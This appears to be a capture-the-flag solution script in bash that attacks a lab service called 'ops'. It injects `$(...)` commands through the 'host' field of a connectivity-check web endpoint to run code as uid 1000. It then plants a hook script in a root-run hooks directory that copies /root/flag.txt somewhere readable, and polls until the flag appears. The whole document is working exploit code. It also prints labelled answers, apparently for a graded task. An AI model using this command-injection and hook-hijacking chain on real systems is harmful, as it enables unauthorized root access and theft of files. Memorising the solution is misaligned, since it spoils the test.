#!/bin/bash
# 1) Command injection in the connectivity check: `$(...)` is not filtered;
#    its output lands in netcat's error message. It runs as uid 1000.
# 2) A root loop runs every /srv/hooks/*.sh, and uid 1000 owns /srv/hooks:
#    drop a hook that copies /root/flag.txt somewhere readable.
set -e
run() { curl -s --data-urlencode "host=$1" --data-urlencode "port=1" http://ops:8080/check; }
run 'x$(id -u)y' | grep -o 'x[0-9]*y' | tr -d xy | sed 's/^/answer[1]: /'
run '$(ps -eo user,args)' >&2
run "\$(printf 'cp /root/flag.txt /srv/hooks/loot.txt\nchmod 644 /srv/hooks/loot.txt\n' > /srv/hooks/zz-grab.sh)"
run "\$(sed -n 's/^HOOKS = \"\\(.*\\)\"/\\1/p' /srv/rotator.py)" | grep -o 'host "[^"]*"' | cut -d'"' -f2 | sed 's/^/answer[2]: /'
for i in 1 2 3 4 5 6 7 8; do
	sleep 1
	out=$(run '$(cat /srv/hooks/loot.txt)')
	if echo "$out" | grep -q 'flag{'; then
		echo "$out" | grep -o 'flag{[0-9a-f]*}' | head -1
		exit 0
	fi
done
exit 1
